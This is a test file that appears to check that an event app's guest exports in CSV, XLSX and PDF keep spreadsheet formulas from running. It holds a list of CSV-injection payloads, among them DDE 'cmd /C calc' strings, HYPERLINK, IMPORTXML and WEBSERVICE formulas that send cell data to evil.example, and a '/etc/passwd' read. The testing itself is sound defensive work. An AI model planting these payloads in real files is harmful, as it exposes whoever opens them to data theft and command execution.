import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  exportGuests,
  exportReport,
  guestColumns,
  type GuestColumn,
} from '@mehfil/contract/reports/exports.ts'
import { castEvents, buildGuestRow } from '../../seed/cast-events.ts'
import { csvRows, workbookSheets } from '../../test/files/read-files.ts'
import { openTestApp, type TestApp } from '../../test/test-app.ts'
import { pdfPages, pdfText } from '../../test/files/pdf.ts'
import { makeFile } from './jobs.ts'

const EID = castEvents.wedding
const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const bodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"win")',
  'SUM(1+1)*cmd',
  'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '1+1',
  "''=2",
  '"=3"',
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("http://evil.example")',
]
/**
 * A hundred and ten texts that a spreadsheet might run as a formula, and marks that other programs
 * must not misread.
 */
const payloads = [
  ...starts.flatMap((start) => bodies.map((body) => start + body)),
  "'=1+1",
  "''=1+1",
  '_x0041_',
  '</t></is></c><c><f>1+1</f></c>',
  '#read("/etc/passwd")',
  '#panic()',
  '$x$ *b* _i_ @ref <label>',
  '\u202e=1+1',
  '&#61;1+1',
  '";=1+1;"',
  '\u00a0=1',
]
const isFormula = (cell: string) => /^[=+\-@\t\r\n\0＝＋－＠]/.test(cell)

let testApp: TestApp
let asha: Awaited<ReturnType<TestApp['as']>>
beforeAll(async () => {
  testApp = await openTestApp({ leniency: 1_000_000 })
  asha = await testApp.as('asha')
  const now = testApp.clock.now()
  const { db } = testApp.world
  await db.deleteFrom('guest').where('event_id', '=', EID).execute()
  const toGuestId = (at: number) => `C${at.toString(16).toUpperCase().padStart(14, '0')}`
  await db
    .insertInto('guest')
    .values(
      payloads.map((payload, at) =>
        buildGuestRow(EID, toGuestId(at), payload, new Date(now.getTime() - at), {
          email: `${at}@x.example`,
          phone: payload,
          category: payload,
          note: payload,
          table_name: payload,
          door_note: payload,
          answer: 'yes',
          people: 1,
          answered_at: now,
          cancel_reason: payload,
        }),
      ),
    )
    .execute()
  await db
    .insertInto('companion')
    .values(
      payloads.map((payload, at) => ({
        event_id: EID,
        guest_id: toGuestId(at),
        position: 1,
        name: payload,
      })),
    )
    .execute()
  await db
    .insertInto('question')
    .values({
      event_id: EID,
      id: 'C00000000000F01',
      position: 0,
      body: '=HYPERLINK("x")',
      mandatory: false,
      kind: 'text',
      max: 200,
      choices: '[]',
    })
    .execute()
  await db
    .insertInto('question_answer')
    .values(
      payloads.map((value, at) => ({
        event_id: EID,
        guest_id: toGuestId(at),
        question_id: 'C00000000000F01',
        value,
      })),
    )
    .execute()
  await db.updateTable('event').set({ title: '=1+1 #panic() [x]' }).where('id', '=', EID).execute()
})
afterAll(async () => {
  await testApp.close()
})

async function exportGuestFile(
  format: 'csv' | 'xlsx' | 'pdf',
  columns: GuestColumn[] = [...guestColumns],
): Promise<Buffer> {
  const { data } = await asha.call(exportGuests, { params: { EID }, input: { format, columns } })
  await makeFile.run(testApp.world, { eventId: EID, exportId: data.id })
  return (
    await asha.inject({ method: 'GET', url: `/api/events/${EID}/guest-exports/${data.id}/file` })
  ).rawPayload
}

async function exportReportFile(
  format: 'csv' | 'xlsx' | 'pdf',
  part: 'report' | 'table',
): Promise<Buffer> {
  const { data } = await asha.call(exportReport, {
    params: { EID },
    input: {
      format,
      part,
      report: 'guest',
      columns: ['name', 'phone', 'category', 'note', 'companions', 'reason', 'q-C00000000000F01'],
    },
  })
  await makeFile.run(testApp.world, { eventId: EID, exportId: data.id })
  return (await asha.inject({ method: 'GET', url: `/api/events/${EID}/exports/${data.id}/file` }))
    .rawPayload
}

const textColumns = [
  'Name',
  'Phone',
  'Category',
  'Companions',
  'Table',
  'Door note',
  'Note',
  '=HYPERLINK("x")',
]

describe("Our product prevents spreadsheets from running guests' texts", () => {
  it(`in a CSV file: ${payloads.length} payloads in every column of text, its titles and its name`, async () => {
    const [titles = [], ...rows] = csvRows((await exportGuestFile('csv')).toString())
    expect(rows).toHaveLength(payloads.length)
    expect([...titles, ...rows.flat()].filter(isFormula)).toEqual([])
    for (const column of textColumns) {
      const at = titles.findIndex((title) => title === column || title === `'${column}`)
      expect([
        column,
        rows.map((cells) =>
          cells[at]!.replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/, '')
            .replace(/;$/, '')
            .trim(),
        ),
      ]).toEqual([column, payloads.map((payload) => payload.replace(/;$/, '').trim())])
    }
  })

  it('in CSV files of reports', async () => {
    for (const part of ['report', 'table'] as const) {
      const cells = csvRows((await exportReportFile('csv', part)).toString()).flat()
      expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true)
      expect(cells.filter((cell) => isFormula(cell) && !/^-?\d+$/.test(cell))).toEqual([])
    }
  })

  it('and its test fails on a text that a spreadsheet would run', () => {
    expect(payloads.filter(isFormula).length).toBeGreaterThan(95)
  })

  it('in a workbook, where text stays text and no sheet has a formula', async () => {
    for (const book of [
      await exportGuestFile('xlsx'),
      await exportReportFile('xlsx', 'report'),
      await exportReportFile('xlsx', 'table'),
    ]) {
      const sheets = await workbookSheets(book)
      expect(sheets.some(({ hasFormulas }) => hasFormulas)).toBe(false)
      expect(
        sheets.every(
          ({ name }) => name.length <= 31 && !/[[\]:*?/\\]/.test(name) && !name.startsWith("'"),
        ),
      ).toBe(true)
    }
    const [sheet] = await workbookSheets(await exportGuestFile('xlsx', ['NAME', 'NOTE']))
    const names = sheet!.rows.slice(1).map((cells) => String(cells[0]?.value))
    expect(sheet!.rows.slice(1).every((cells) => cells[0]?.kind === 'text')).toBe(true)
    expect(names.map((name) => name.replace(/^'(?='+[=+\-@\t\r\n＝＋－＠])/, ''))).toEqual(payloads)
  })

  it('on paper, which shows the letters only', { tags: 'long' }, async () => {
    const list = await pdfText(await exportGuestFile('pdf', ['NAME', 'NOTE']))
    expect(list).toContain('#read("/etc/passwd")')
    expect(list).toContain('#panic()')
    expect(list).not.toContain('root:')
    const report = await exportReportFile('pdf', 'report')
    expect(await pdfPages(report)).toHaveLength(1)
    expect(await pdfText(report)).toContain('=1+1 #panic() [x]')
  })
})
